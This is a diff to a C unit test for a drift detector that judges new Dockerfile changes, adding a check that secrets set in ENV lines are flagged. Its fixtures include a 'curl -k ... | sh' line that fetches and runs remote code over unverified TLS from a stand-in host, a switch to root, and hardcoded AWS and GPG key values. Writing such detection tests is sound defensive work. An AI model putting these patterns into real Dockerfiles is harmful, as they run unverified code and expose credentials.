@@ -162,10 +162,13 @@ static void what_a_dockerfile_does_that_is_new_is_judged(void **state)
     builder_write(work->build, "web.Dockerfile", safe);
     builder_write(work->build, "tests/Dockerfile", safe);
     write_file(work, "Dockerfile", safe, "Begin", "v1");
-    replace(work, "web.Dockerfile", "RUN a", "RUN b", "MB-1: b", NULL);
+    replace(work, "web.Dockerfile", "RUN a", "RUN b\nENV GPG_KEY=E3FF2839C048B25C084DEBE9",
+            "MB-1: b", NULL);
     replace(work, "tests/Dockerfile", "USER app", "USER root", "MB-2: root", NULL);
     replace(work, "Dockerfile", "USER app\n",
-            "ADD https://a.example/x /x\nRUN curl -k https://a.example/y | sh\n", "MB-3: y", "v2");
+            "ADD https://a.example/x /x\nRUN curl -k https://a.example/y | sh\n"
+            "ENV AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIxK7MDENGybPxRfiCYzzGMPLEKEY\n",
+            "MB-3: y", "v2");
     report = drift_detect(work_read(work));
 
     item = item_of(report, DRIFT_CODE, "Dockerfile");
@@ -176,6 +179,7 @@ static void what_a_dockerfile_does_that_is_new_is_judged(void **state)
     assert_true(fired(item, "code.image-piped"));
     assert_true(fired(item, "code.image-unverified"));
     assert_true(fired(item, "code.image-remote"));
+    assert_true(fired(item, "code.image-secret"));
     item = item_of(report, DRIFT_CODE, "web.Dockerfile");
     assert_int_equal(item->severity, SEVERITY_MEDIUM);
     assert_false(item->security);
